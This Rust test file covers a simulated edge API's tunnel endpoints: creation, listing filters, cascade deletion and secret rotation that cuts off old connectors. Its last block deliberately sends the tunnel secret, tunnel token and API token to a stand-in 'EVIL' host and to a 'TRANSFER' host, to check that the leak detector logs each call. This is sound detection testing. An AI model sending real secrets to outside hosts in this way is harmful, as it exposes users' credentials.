//! Tunnels, their connectors, and what becomes of these when a secret changes.

use serde_json::{Value, json};
use usher_tests::edge::hosts::{ACME, EVIL, LOCAL_API, RIVAL, TRANSFER};
use usher_tests::edge::{Carried, Edge, Permission, Unauthorized};

use super::super::hand::ask;
use super::{call, call_at, refusal, result};

#[test]
fn tunnels_are_made_listed_and_deleted_as_cloudflared_does() {
    let edge = Edge::start();
    let token = edge.add_api_token(&[Permission::TunnelWrite]);
    let base = format!("/accounts/{}/cfd_tunnel", edge.account(ACME));
    // A program that is told the API's address may ask at localhost.
    let call = |method: &str, path: &str, body: &str| {
        call_at(&edge, LOCAL_API, &token, method, &format!("{base}{path}"), body)
    };
    let secret = "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=";
    let wanted = json!({"name": "web", "tunnel_secret": secret}).to_string();
    let made = result(&call("POST", "", &wanted));
    let id = made["id"].as_str().expect("an id").to_owned();
    let file = json!({"AccountTag": edge.account(ACME), "TunnelID": id, "TunnelName": "web", "TunnelSecret": secret});
    assert_eq!(made["credentials_file"], file);
    assert_eq!(made["token"], json!(edge.tunnel_token(&id)));
    assert_eq!((&made["deleted_at"], &made["connections"]), (&json!(null), &json!([])));
    assert_eq!(refusal(&call("POST", "", &wanted)), (409, json!(1013)));
    assert_eq!(call("POST", "", r#"{"name":"x","tunnel_secret":"c2hvcnQ="}"#).status, 400);
    for number in 1..5 {
        edge.add_tunnel(&format!("spare-{number}"));
    }
    edge.add_tunnel_of(RIVAL, "web");

    let names = |query: &str| {
        let answer = call("GET", query, "");
        let result = result(&answer);
        let names = result.as_array().expect("a list").iter().map(|tunnel| tunnel["name"].clone()).collect();
        (Value::Array(names), answer.json()["result_info"].clone())
    };
    assert_eq!(names("?is_deleted=false&name=web").0, json!(["web"]));
    assert_eq!(
        names("?name_prefix=spare&exclude_prefix=spare-3").0,
        json!(["spare-1", "spare-2", "spare-4"])
    );
    assert_eq!(names(&format!("?uuid={id}")).0, json!(["web"]));
    let info = json!({"count": 2, "page": 2, "per_page": 2, "total_count": 5, "total_pages": 3});
    assert_eq!(names("?page=2&per_page=2"), (json!(["spare-2", "spare-3"]), info));
    assert_eq!(names("?page=9&per_page=2").0, json!([]));

    let at = |rest: &str| format!("/{id}{rest}");
    assert_eq!(result(&call("GET", &at("/token"), "")), json!(edge.tunnel_token(&id)));
    let connector = edge.connect(&id, &edge.tunnel_token(&id)).expect("its own token");
    assert_eq!(result(&call("GET", &at(""), ""))["status"], "healthy");
    let serving = result(&call("GET", &at("/connections"), ""));
    assert_eq!(
        (&serving[0]["id"], serving[0]["conns"].as_array().map(Vec::len)),
        (&json!(connector), Some(4))
    );
    assert_eq!(refusal(&call("DELETE", &at(""), "")), (400, json!(1022)));
    assert!(result(&call("DELETE", &at("?cascade=true"), ""))["deleted_at"].is_string());
    assert!(!edge.connectors(&id)[0].alive);
    assert_eq!(edge.connect(&id, &edge.tunnel_token(&id)), Err(Unauthorized));
    assert!(result(&call("GET", &at(""), ""))["deleted_at"].is_string(), "it can be looked at");
    assert_eq!(call("GET", &at("/token"), "").status, 404);
    assert_eq!(names("?is_deleted=true").0, json!(["web"]));
    assert_eq!(names("?is_deleted=false&name=web").0, json!([]));
    result(&call("POST", "", r#"{"name":"web","config_src":"cloudflare"}"#));
    assert_eq!(edge.log().strays().len(), 0);
}

#[test]
fn another_secret_keeps_out_who_comes_with_the_old_one() {
    let edge = Edge::start();
    let token = edge.add_api_token(&[Permission::TunnelWrite]);
    let tunnel = edge.add_tunnel("web");
    let path = format!("/accounts/{}/cfd_tunnel/{tunnel}", edge.account(ACME));
    let old = edge.tunnel_token(&tunnel);
    let first = edge.connect(&tunnel, &old).expect("its own token");
    let second = edge.connect(&tunnel, &old).expect("its own token");
    assert_eq!(edge.connect(&tunnel, "bm9uc2Vuc2U="), Err(Unauthorized));
    assert_eq!(edge.connect(&tunnel, &edge.tunnel_token(&edge.add_tunnel("other"))), Err(Unauthorized));
    let state =
        || -> Vec<_> { edge.connectors(&tunnel).into_iter().map(|one| (one.alive, one.current)).collect() };
    call(&edge, &token, "DELETE", &format!("{path}/connections"), "");
    assert_eq!(state(), [(true, true); 2], "they came again");

    let new = "+/+/+/+/+/+/+/+/+/+/+/+/+/+/+/+/+/+/+/+/+/8=";
    let change = json!({"name": "web", "tunnel_secret": new}).to_string();
    let changed = result(&call(&edge, &token, "PATCH", &path, &change));
    assert_eq!(
        (&changed["token"], edge.tunnel_secret(&tunnel)),
        (&json!(edge.tunnel_token(&tunnel)), new.into())
    );
    assert_eq!(state(), [(true, false); 2], "they stay");
    assert_eq!(edge.connect(&tunnel, &old), Err(Unauthorized));
    call(&edge, &token, "DELETE", &format!("{path}/connections?client_id={first}"), "");
    assert_eq!(state(), [(false, false), (true, false)]);
    let third = edge.connect(&tunnel, &edge.tunnel_token(&tunnel)).expect("the new token");
    assert_eq!(result(&call(&edge, &token, "DELETE", &format!("{path}/connections"), "")), json!(null));
    assert_eq!(state(), [(false, false), (false, false), (true, true)]);
    let ids: Vec<_> = edge.connectors(&tunnel).into_iter().map(|one| one.id).collect();
    assert_eq!(ids, [first, second, third]);
    for bad in ["", "{}", r#"{"tunnel_secret":"x"}"#] {
        assert_eq!(call(&edge, &token, "PATCH", &path, bad).status, 400, "{bad}");
    }

    // The secret is seen wherever it goes, with or without what fills it up.
    assert_eq!(edge.log().strays().len(), 0);
    let bare = new.trim_end_matches('=').to_owned();
    for (number, leaked) in [new.to_owned(), bare, edge.tunnel_token(&tunnel), token].iter().enumerate() {
        ask(&edge, "GET", &format!("https://{EVIL}/"), &[("x-leak", leaked)]);
        assert_eq!(edge.log().strays().len(), number + 1);
    }
    edge.https().ask_with("POST", &format!("https://{TRANSFER}/"), &[], new.as_bytes()).expect("an answer");
    let log = edge.log();
    assert_eq!(log.strays().len(), 5);
    assert!(log.entries.last().is_some_and(|entry| entry.carries(Carried::TunnelSecret)));
}
